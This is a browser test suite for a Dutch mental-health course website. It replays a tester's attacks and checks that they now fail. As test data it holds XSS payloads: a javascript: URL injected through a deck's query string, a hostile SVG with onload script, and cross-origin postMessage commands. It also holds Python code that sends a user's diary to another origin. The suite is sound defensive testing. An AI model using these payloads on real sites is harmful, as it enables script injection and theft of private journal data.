"""Security round 3 (issue 26) in Debian's Chromium: the attacks a tester ran against the built
site, each replayed against the build and required to fail, each with a control that shows the
test would see the attack work.

"Another site" is a second local HTTP server on another port: another origin to the browser."""

from __future__ import annotations

import functools
import http.server
import threading
from pathlib import Path
from urllib.parse import quote

import pytest
from conftest import HTML, wait_for

pytestmark = [pytest.mark.browser, pytest.mark.built]

DECKS = sorted(p.relative_to(HTML).as_posix() for p in (HTML / "downloads" / "workshop").glob("*/presentatie*.html")) \
    if HTML.exists() else []
CSP_LISTENER = """
window.__cspViolations = [];
document.addEventListener('securitypolicyviolation', (e) => window.__cspViolations.push(
  `${e.violatedDirective} ${e.blockedURI}`));
"""


class _Recorder(http.server.SimpleHTTPRequestHandler):
    """Serves the attacker's folder and writes down every path asked for."""

    def log_message(self, *args) -> None:
        pass

    def do_GET(self) -> None:  # noqa: N802 (the standard library's name)
        self.server.asked.append(self.path)
        super().do_GET()


@pytest.fixture
def other_site(tmp_path):
    """Another origin: (its address, the folder it serves, the paths it was asked for)."""
    folder = tmp_path / "elders"
    folder.mkdir()
    (folder / "x.png").write_bytes(b"\x89PNG\r\n\x1a\n")
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(_Recorder, directory=str(folder)))
    server.asked = []
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}/", folder, server.asked
    server.shutdown()


def _encode(text: str) -> str:
    """Every character but letters and digits as %XX: reveal.js reads only [\\w.%-] from a query value."""
    return quote(text, safe="")


# --- the workshop decks -------------------------------------------------------------------------------


@pytest.mark.parametrize("deck", DECKS)
def test_deck_runs_under_its_policy_with_no_violation(browser, site, deck):
    ctx = browser.new_context(viewport={"width": 1280, "height": 720})
    ctx.add_init_script(CSP_LISTENER)
    tab = ctx.new_page()
    tab.goto(site + deck + "#/3")
    wait_for(tab, "window.Reveal && Reveal.isReady()")
    assert tab.evaluate("document.querySelector('meta[http-equiv=\"Content-Security-Policy\"]').content")
    tab.keyboard.press("ArrowRight")
    with ctx.expect_page() as popup:
        tab.keyboard.press("s")
    speaker = popup.value
    wait_for(speaker, "document.querySelector('.speaker-controls-notes') && "
                      "document.querySelector('.speaker-controls-notes').textContent.length > 20")
    assert tab.evaluate("window.__cspViolations") == []
    for frame in speaker.frames[1:]:
        assert frame.evaluate("window.__cspViolations || []") == [], frame.url
    ctx.close()


def test_deck_address_cannot_load_script_or_remote_images(browser, site, other_site):
    """The tester's attack: ``?url=javascript:...`` plus S ran script on the site's origin (it
    read the journal); ``?parallaxBackgroundImage=`` loaded an image from another host."""
    elders, _folder, asked = other_site
    deck = DECKS[0]
    payload = "javascript:localStorage.setItem('gestolen','1')//"
    address = f"{site}{deck}?url={_encode(payload)}&parallaxBackgroundImage={_encode(elders + 'x.png')}" \
              f"&postMessage=true&controls=false#/2"
    ctx = browser.new_context(viewport={"width": 1280, "height": 720})
    tab = ctx.new_page()
    tab.goto(address)
    wait_for(tab, "window.Reveal && Reveal.isReady()")
    assert tab.evaluate("location.search") == ""
    assert tab.evaluate("Reveal.getConfig().url") is None
    assert tab.evaluate("Reveal.getConfig().controls") is True
    assert tab.evaluate("Reveal.getIndices().h") == 2           # the hash still works
    with ctx.expect_page() as popup:
        tab.keyboard.press("s")
    speaker = popup.value
    wait_for(speaker, "document.querySelectorAll('iframe').length === 2 && "
                      "[...document.querySelectorAll('iframe')].every(f => f.src)")
    tab.wait_for_timeout(1500)
    sources = speaker.evaluate("[...document.querySelectorAll('iframe')].map(f => f.src)")
    assert all(s.startswith(site + deck + "?receiver") for s in sources), sources
    assert tab.evaluate("localStorage.getItem('gestolen')") is None
    assert asked == []
    ctx.close()


def test_a_hostile_address_is_what_the_deck_test_would_see(browser, site, other_site):
    """Control: with the deck's init script as it was (reveal.js started with no guard) and no
    policy, the same address reaches reveal.js and loads the image, so the test above would see it."""
    elders, _folder, asked = other_site
    deck = DECKS[0]
    ctx = browser.new_context(viewport={"width": 1280, "height": 720}, bypass_csp=True)

    def unguarded(route):
        route.fulfill(body="Reveal.initialize({hash: true, plugins: [RevealNotes]});", content_type="text/javascript")

    ctx.route("**/presentatie-bestanden/presentatie.js", unguarded)
    tab = ctx.new_page()
    tab.goto(f"{site}{deck}?parallaxBackgroundImage={_encode(elders + 'x.png')}&controls=false")
    wait_for(tab, "window.Reveal && Reveal.isReady()")
    assert tab.evaluate("Reveal.getConfig().controls") is False
    tab.wait_for_timeout(700)
    assert asked == ["/x.png"]
    ctx.close()


ATTACKER = """<!DOCTYPE html><html><head><meta charset="utf-8"><title>elders</title></head><body>
<iframe id="f" src="{deck}" width="1280" height="720"></iframe>
<script>
  window.opened = null;
  function send(win, method, args) {{ win.postMessage(JSON.stringify({{method: method, args: args}}), '*'); }}
</script></body></html>"""


def test_deck_does_not_start_in_another_sites_frame(browser, site, other_site):
    elders, folder, _asked = other_site
    deck = site + DECKS[0]
    (folder / "aanval.html").write_text(ATTACKER.format(deck=deck), encoding="utf-8")
    ctx = browser.new_context(viewport={"width": 1400, "height": 900})
    tab = ctx.new_page()
    tab.goto(elders + "aanval.html")
    frame = next(f for f in tab.frames if f.url.startswith(deck))
    wait_for(frame, "document.querySelector('.presentatie-geweigerd')")
    assert frame.evaluate("document.querySelector('.reveal').hidden") is True
    assert frame.evaluate("Reveal.isReady()") is False
    link = frame.evaluate("document.querySelector('.presentatie-geweigerd a').href")
    assert link.startswith(deck)
    ctx.close()


def test_deck_ignores_messages_from_another_origin(browser, site, other_site):
    """A window of another site that opened the deck cannot steer it; the deck's own origin can
    (the control: the speaker view's ``setState`` works, so the test can see a message act)."""
    elders, folder, _asked = other_site
    deck = site + DECKS[0]
    (folder / "aanval.html").write_text(ATTACKER.format(deck="about:blank"), encoding="utf-8")
    ctx = browser.new_context(viewport={"width": 1280, "height": 720})
    attacker = ctx.new_page()
    attacker.goto(elders + "aanval.html")
    with ctx.expect_page() as popup:
        attacker.evaluate(f"window.opened = window.open({deck!r})")
    tab = popup.value
    wait_for(tab, "window.Reveal && Reveal.isReady()")
    for method, args in (("setState", [{"indexh": 3}]), ("slide", [4]), ("next", []),
                         ("configure", [{"url": "javascript:alert(1)"}])):
        attacker.evaluate("([m, a]) => send(window.opened, m, a)", [method, args])
    tab.wait_for_timeout(700)
    assert tab.evaluate("Reveal.getIndices().h") == 0
    assert tab.evaluate("Reveal.getConfig().url") is None
    # control: the same call from the deck's own origin (here the deck's window itself)
    tab.evaluate("window.postMessage(JSON.stringify({method: 'setState', args: [{indexh: 3}]}), '*')")
    wait_for(tab, "Reveal.getIndices().h === 3")
    ctx.close()


def test_deck_from_a_folder_keeps_its_speaker_view_and_drops_the_address(browser, tmp_path):
    """Over file:// the previews cannot read their parent's location: the guard still lets the
    speaker view work and still drops a hostile address."""
    import shutil

    folder = tmp_path / "usb"
    shutil.copytree((HTML / DECKS[0]).parent, folder)
    url = (folder / Path(DECKS[0]).name).as_uri()
    ctx = browser.new_context(viewport={"width": 1280, "height": 720})
    tab = ctx.new_page()
    tab.goto(url + "?url=" + _encode("javascript:localStorage.setItem('gestolen','1')//") + "#/4")
    wait_for(tab, "window.Reveal && Reveal.isReady()")
    assert tab.evaluate("location.search") == ""
    with ctx.expect_page() as popup:
        tab.keyboard.press("s")
    speaker = popup.value
    wait_for(speaker, "document.querySelector('.speaker-controls-notes') && "
                      "document.querySelector('.speaker-controls-notes').textContent.length > 20")
    frames = [f for f in speaker.frames if "receiver" in f.url]
    assert len(frames) == 2
    wait_for(frames[0], "window.Reveal && Reveal.isReady() && Reveal.getIndices().h === 4")
    wait_for(frames[1], "window.Reveal && Reveal.isReady() && Reveal.getIndices().h === 5")
    tab.keyboard.press("ArrowRight")
    wait_for(frames[0], "Reveal.getIndices().h === 5")
    assert tab.evaluate("localStorage.getItem('gestolen')") is None
    ctx.close()


# --- the in-browser Python runtime ------------------------------------------------------------------------

LEAK = """import js
verzoek = js.XMLHttpRequest.new()
verzoek.open("GET", "{url}", False)
try:
    verzoek.send()
    print("verstuurd", verzoek.status)
except Exception as fout:
    print("tegengehouden")
"""


def _run_in_runtime(browser, site: str, code: str, then=None, stem: str = "m4-gebruikspatroon") -> str:
    """Start the runtime on a notebook page (module 4 unless ``stem`` says) under its own policy, run ``code`` in the
    first editable cell, and return what the cell printed (``then(page, cell)`` runs after)."""
    ctx = browser.new_context()
    try:
        pg = ctx.new_page()
        pg.goto(f"{site}exercises/{stem}.html", wait_until="networkidle")
        pg.get_by_role("button", name="Zelf proberen in je browser").click()
        wait_for(pg, "document.querySelector('.cursus-oefenen-status') && "
                     "document.querySelector('.cursus-oefenen-status').textContent.startsWith('Klaar')", timeout=120)
        cell = pg.locator("div.cell:has(textarea)").first
        cell.locator("textarea").fill(code)
        cell.locator(".cursus-oefenen-cel > .cursus-oefenen-melding").evaluate("n => n.textContent = ''")
        cell.get_by_role("button", name="Uitvoeren").click()
        melding = cell.locator(".cursus-oefenen-cel > .cursus-oefenen-melding").element_handle()
        wait_for(pg, "(n) => n.textContent.trim() !== '' && !n.textContent.startsWith('Bezig')", melding, timeout=60)
        if then:
            then(pg, cell)
        return melding.text_content() + "\n" + cell.locator(".cell_output").first.inner_text()
    finally:
        ctx.close()


def test_python_in_the_runtime_cannot_send_to_another_host(browser, site, other_site):
    """The tester's Python sent the diary to another host: the worker ran without the page's
    policy. Control: the same request to the site itself goes through, so the code does run."""
    elders, _folder, asked = other_site
    code = LEAK.format(url=elders + "lek?dagboek=1") + LEAK.format(url=site + "index.html")
    out = _run_in_runtime(browser, site, code)
    assert asked == [], asked
    assert out.startswith("Klaar") and out.split()[-3:] == ["tegengehouden", "verstuurd", "200"], out


HOSTILE_CHART = """class Grafiek:
    alt = "Een grafiek"
    def _repr_svg_(self):
        # joined with + : two strings side by side read as a missing comma to the runtime
        return ('<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" ' +
                'onload="localStorage.setItem(\\'gestolen\\', \\'onload\\')">' +
                '<script>localStorage.setItem("gestolen", "script")</script>' +
                '<rect width="40" height="40"/></svg>')
Grafiek()
"""


def test_a_chart_opened_on_its_own_is_no_page_of_the_site(browser, site):
    """The tester's chart, opened in its own tab, was a page of the course's origin and its
    script ran. Now a chart is a data: image, outside every link, and opened on its own it runs
    nothing that reaches the site's storage."""
    seen = {}

    def check(pg, cell):
        img = cell.locator("img.cursus-oefenen-grafiek")
        wait_for(pg, "(n) => n.querySelector('img.cursus-oefenen-grafiek')", cell.element_handle())
        src = img.get_attribute("src")
        seen["src"] = src
        seen["linked"] = img.evaluate("n => Boolean(n.closest('a[href]'))")
        assert pg.evaluate("localStorage.getItem('gestolen')") is None    # inside <img> nothing runs
        tab = pg.context.new_page()
        try:
            tab.goto(src)
        except Exception as error:          # Chromium may refuse a data: address in a tab outright
            seen["refused"] = str(error)
        tab.wait_for_timeout(500)
        seen["stored"] = pg.evaluate("localStorage.getItem('gestolen')")
        seen["tab_origin"] = tab.evaluate("origin") if "refused" not in seen else None
        tab.close()

    # Module 2's first field is a plain step (module 4's first field asks for the diary file, and a
    # step whose file is refused shows no chart).
    _run_in_runtime(browser, site, HOSTILE_CHART, check, stem="m2-vicieuze-cirkel")
    assert seen["stored"] is None, seen
    assert seen["tab_origin"] in (None, "null"), seen
    assert seen["src"].startswith("data:image/svg+xml"), seen["src"][:40]
    assert seen["linked"] is False


# --- the journal ("Mijn reflecties") ------------------------------------------------------------------------

import json  # noqa: E402

from conftest import course_index  # noqa: E402

PREFIX = "sociale-media-mentale-gezondheid:"
JOURNAL = "book/bijlagen/mijn-reflecties.html"


def _ids() -> list[str]:
    return [r["id"] for r in course_index()["reflections"]]


def _export(answers: dict[str, str], **extra) -> str:
    return json.dumps({"soort": "mijn-reflecties", "cursus": "Sociale media en mentale gezondheid", "versie": 1,
                       "antwoorden": [{"id": k, "titel": k, "antwoord": v} for k, v in answers.items()], **extra})


def _import(pg, tmp_path: Path, text: str, name: str = "mijn-reflecties.json") -> None:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    pg.get_by_label("Eerder gedownload bestand importeren (.json)").set_input_files(str(path))


def _status(pg) -> str:
    return pg.locator("#cursus-dagboek .cursus-status").inner_text()


@pytest.fixture
def journal(browser, site):
    ctx = browser.new_context()
    pg = ctx.new_page()
    pg.errors = []
    pg.on("pageerror", lambda e: pg.errors.append(str(e)))
    pg.goto(site + JOURNAL, wait_until="networkidle")
    yield pg
    ctx.close()


def test_only_new_answers_keeps_what_another_tab_wrote_meanwhile(journal, tmp_path):
    first, second = _ids()[:2]
    journal.evaluate("([k, v]) => localStorage.setItem(k, v)", [PREFIX + "reflectie:" + first, "in deze browser"])
    journal.reload(wait_until="networkidle")
    _import(journal, tmp_path, _export({first: "uit het bestand", second: "nieuw uit het bestand"}))
    journal.get_by_role("button", name="Alleen nieuwe antwoorden toevoegen").wait_for()
    other = journal.context.new_page()                      # another tab writes while the question is open
    other.goto(journal.url, wait_until="networkidle")
    other.evaluate("([k, v]) => localStorage.setItem(k, v)", [PREFIX + "reflectie:" + second, "in het andere tabblad"])
    other.close()
    journal.get_by_role("button", name="Alleen nieuwe antwoorden toevoegen").click()
    value = journal.evaluate("(k) => localStorage.getItem(k)", PREFIX + "reflectie:" + second)
    assert value == "in het andere tabblad"
    assert journal.evaluate("(k) => localStorage.getItem(k)", PREFIX + "reflectie:" + first) == "in deze browser"
    assert "0 antwoorden ingelezen" in _status(journal)
    assert "1 antwoorden zijn intussen in deze browser veranderd" in _status(journal)


def test_unknown_ids_are_ignored_with_a_count(journal, tmp_path):
    first = _ids()[0]
    _import(journal, tmp_path, _export({first: "mijn antwoord", "bestaat-niet-1": "x", "constructor": "y"}))
    wait_for(journal, "document.querySelector('#cursus-dagboek .cursus-status').textContent.includes('ingelezen')")
    keys = journal.evaluate("Object.keys(localStorage)")
    assert PREFIX + "reflectie:" + first in keys                     # control: a known id is stored
    assert not [k for k in keys if "bestaat-niet" in k or k.endswith(":constructor")], keys
    assert "2 antwoorden horen bij geen opdracht van deze cursus" in _status(journal)


def test_a_file_with_junk_answers_is_refused_whole(journal, tmp_path):
    """The tester's 9 MB export: 107,075 junk answers filled the storage."""
    junk = {f"rommel-{i}": "x" * 12 for i in range(107_075)}
    text = _export(junk)
    assert 5_000_000 < len(text) < 10 * 1024 * 1024
    _import(journal, tmp_path, text)
    wait_for(journal, "document.querySelector('#cursus-dagboek .cursus-status').textContent.length > 0", timeout=60)
    assert "meer dan 1000 antwoorden" in _status(journal)
    assert [k for k in journal.evaluate("Object.keys(localStorage)") if "rommel" in k] == []


def test_migration_takes_only_this_courses_old_keys(browser, site):
    first, module = _ids()[0], course_index()["modules"][0]["id"]
    ctx = browser.new_context()
    pg = ctx.new_page()
    pg.goto(site + "genindex.html")
    pg.evaluate("""([own, module]) => {
        localStorage.setItem('cursus:reflectie:' + own, 'mijn oude antwoord');
        localStorage.setItem('cursus:reflectie:andere-cursus-vraag-3', 'van een andere cursus');
        localStorage.setItem('cursus:voortgang:' + module, 'klaar');
        localStorage.setItem('cursus:voortgang:andere-cursus', 'klaar');
    }""", [first, module])
    pg.goto(site + JOURNAL, wait_until="networkidle")
    stored = pg.evaluate("Object.fromEntries(Object.keys(localStorage).map(k => [k, localStorage.getItem(k)]))")
    assert stored.get(PREFIX + "reflectie:" + first) == "mijn oude antwoord"       # control: ours moved
    assert stored.get(PREFIX + "voortgang:" + module) == "klaar"
    assert stored.get("cursus:reflectie:andere-cursus-vraag-3") == "van een andere cursus"
    assert stored.get("cursus:voortgang:andere-cursus") == "klaar"
    assert not [k for k in stored if "andere-cursus" in k and k.startswith(PREFIX)], stored
    ctx.close()


def test_progress_and_the_last_page_travel_with_the_export(journal, tmp_path):
    index = course_index()
    module = str(index["modules"][1]["id"])
    journal.evaluate("""([p, m]) => {
        localStorage.setItem(p + 'voortgang:' + m, 'klaar');
        localStorage.setItem(p + 'laatste-pagina', JSON.stringify({page: 'book/m2-lange-termijn/index.html',
            title: 'Module 2', module: 'Module 2'}));
    }""", [PREFIX, module])
    exported = journal.evaluate("window.cursus.exportJson()")
    data = json.loads(exported)
    assert data["voortgang"] == [module] and data["laatstePagina"]["page"] == "book/m2-lange-termijn/index.html"
    journal.evaluate("localStorage.clear()")
    journal.reload(wait_until="networkidle")
    _import(journal, tmp_path, exported)
    wait_for(journal, "document.querySelector('#cursus-dagboek .cursus-status').textContent.includes('ingelezen')")
    assert journal.evaluate("(k) => localStorage.getItem(k)", PREFIX + "voortgang:" + module) == "klaar"
    last = json.loads(journal.evaluate("(k) => localStorage.getItem(k)", PREFIX + "laatste-pagina"))
    assert last["page"] == "book/m2-lange-termijn/index.html"
    assert "1 module op klaar" in _status(journal)
    assert journal.errors == []


def test_over_file_urls_the_journal_warns_and_offers_the_site(browser, site):
    page = (HTML / JOURNAL).as_uri()
    ctx = browser.new_context()
    pg = ctx.new_page()
    pg.goto(page)
    warning = pg.locator(".cursus-lokaal")
    assert "elk ander HTML-bestand" in warning.inner_text()
    assert warning.locator("a").get_attribute("href") == course_index()["substitutions"]["site_url"]
    pg.goto(site + JOURNAL, wait_until="networkidle")                  # control: served, no warning
    assert pg.locator(".cursus-lokaal").count() == 0
    assert pg.locator("#cursus-dagboek .cursus-dagboek-knoppen").count() == 1
    ctx.close()


def _diary_row(browser, site: str, value: str) -> tuple[str, list[str]]:
    ctx = browser.new_context()
    try:
        pg = ctx.new_page()
        errors: list[str] = []
        pg.on("pageerror", lambda e: errors.append(str(e)))
        pg.goto(site + "genindex.html")
        pg.evaluate("(v) => localStorage.setItem('sociale-media-mentale-gezondheid:oefenen-bestand', v)", value)
        pg.goto(f"{site}exercises/m4-gebruikspatroon.html", wait_until="networkidle")
        pg.get_by_role("button", name="Zelf proberen in je browser").click()
        wait_for(pg, "document.querySelector('.cursus-oefenen-bewaard')", timeout=120)
        return pg.locator(".cursus-oefenen-bewaard").inner_text(), errors
    finally:
        ctx.close()


@pytest.mark.parametrize("damaged", ['{"naam": "dagboek.csv", "inhoud": "%%%"}', "{kapot", '"tekst"', '{"naam": 5}'])
def test_a_damaged_stored_diary_gives_a_dutch_message(browser, site, damaged):
    row, errors = _diary_row(browser, site, damaged)
    assert "beschadigd" in row and errors == []


def test_a_sound_stored_diary_is_offered(browser, site):
    """Control: a diary stored as the page stores it is offered, not called damaged."""
    import base64

    value = json.dumps({"naam": "dagboek.csv", "inhoud": base64.b64encode(b"datum;minuten\n").decode()})
    row, errors = _diary_row(browser, site, value)
    assert "In deze browser is een dagboek bewaard: dagboek.csv" in row and errors == []


def test_search_terms_and_colour_scheme_are_kept_under_the_prefix_and_wiped(browser, site):
    """The tester found the search terms in localStorage outside the prefix, kept after
    "Alles wissen". Now a search, the colour switch and the sidebar store under the prefix only,
    and the wipe leaves nothing; the control is that they did store something."""
    ctx = browser.new_context()
    pg = ctx.new_page()
    pg.goto(site + "search.html?q=gesprek", wait_until="networkidle")
    wait_for(pg, "document.querySelector('#search-results') && "
                 "document.querySelector('#search-results').textContent.length > 0", timeout=30)
    pg.goto(site + "book/m1-spectrum/index.html", wait_until="networkidle")
    pg.locator("button.theme-switch-button").first.click()
    pg.goto(site + JOURNAL, wait_until="networkidle")
    kept = pg.evaluate("[...Object.keys(localStorage), ...Object.keys(sessionStorage)]")
    assert PREFIX + "kleurmodus" in kept and kept, kept           # control: something was kept
    assert [k for k in kept if not k.startswith(PREFIX)] == [], kept
    pg.once("dialog", lambda d: d.accept())
    pg.get_by_role("button", name="Alles wissen").click()
    assert pg.evaluate("[...Object.keys(localStorage), ...Object.keys(sessionStorage)]") == []
    ctx.close()


# --- search ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize("word", ["constructor", "__proto__", "hasOwnProperty", "toString", "gesprek"])
def test_a_search_for_any_word_finishes(browser, site, word):
    """``constructor`` and ``__proto__`` never finished (the index's plain objects answered with
    their prototype); "gesprek" is the control with results."""
    ctx = browser.new_context()
    pg = ctx.new_page()
    errors: list[str] = []
    pg.on("pageerror", lambda e: errors.append(str(e)))
    pg.goto(site + "search.html?q=" + quote(word), wait_until="networkidle")
    wait_for(pg, "document.querySelector('#search-results p.search-summary') && "
                 "!document.querySelector('#search-results').textContent.includes('Bezig met zoeken')", timeout=20)
    summary = pg.locator("#search-results p.search-summary").inner_text()
    found = pg.locator("#search-results ul.search li").count()
    assert errors == []
    assert ("geen resultaten" in summary) if not found else ("gevonden" in summary), summary
    if word == "gesprek":
        assert found > 0
    elif word != "__proto__":
        assert found == 0
    # "__proto__" is searched as the word "proto" (the underscores are no letters), which finds
    # pages on the safety protocol: results are a right answer too, as long as the search ends.
    ctx.close()


def test_the_hide_highlights_link_works_under_the_policy(browser, site):
    ctx = browser.new_context()
    ctx.add_init_script(CSP_LISTENER)
    pg = ctx.new_page()
    pg.goto(site + "book/m4-tips/03-gespreksleidraad.html?highlight=gesprek", wait_until="networkidle")
    wait_for(pg, "document.querySelector('span.highlighted')")         # control: the terms are marked
    link = pg.locator(".highlight-link a")
    link.click()
    wait_for(pg, "!document.querySelector('span.highlighted')")
    assert pg.locator(".highlight-link").count() == 0
    assert pg.evaluate("window.__cspViolations") == []
    ctx.close()
